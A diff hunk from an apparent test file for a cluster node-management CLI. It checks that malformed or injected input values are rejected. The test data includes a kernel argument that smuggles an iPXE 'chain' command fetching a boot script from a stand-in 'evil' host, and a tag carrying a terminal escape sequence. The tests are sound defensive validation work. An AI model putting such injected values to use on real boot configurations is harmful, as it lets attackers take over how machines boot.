@@ -166,7 +166,7 @@ def test_commas_split_only_profiles_and_overlays(cluster):
     (["node", "set", "n003", "--ipaddr6", "64:ff9b::10.0.0.5"], "NAT64"),
     (["node", "set", "n003", "--ipaddr6", "::ffff:10.0.0.5"], "IPv4-mapped"),
     (["node", "set", "n003", "--kernel-arg", "quiet\nchain http://evil/x.ipxe\n#"],
-     "node n003: kernel_args: control character '\\n'"),
+     "node n003: kernel_args.0: control character '\\n'"),
     (["node", "set", "n003", "--kernel-arg", "quiet splash"], "no whitespace"),
     (["node", "set", "n003", "--tag", "rack=r1\x1b[2J"], "control character '\\x1b'"),
     (["node", "set", "n003", "--comment", "a\nb"], "control character"),
